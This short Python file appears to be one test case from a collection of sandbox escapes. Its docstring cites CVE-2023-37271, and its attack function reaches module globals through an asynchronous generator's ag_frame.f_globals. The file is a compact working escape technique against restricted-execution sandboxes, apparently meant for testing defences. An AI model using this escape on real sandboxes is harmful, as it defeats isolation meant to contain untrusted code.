"""Class: frames. Source: CVE-2023-37271, ag_frame. Escape: an asynchronous generator's frame."""


async def inside():
    yield 1


def attack(model, tokenizer, address):
    return inside().ag_frame.f_globals
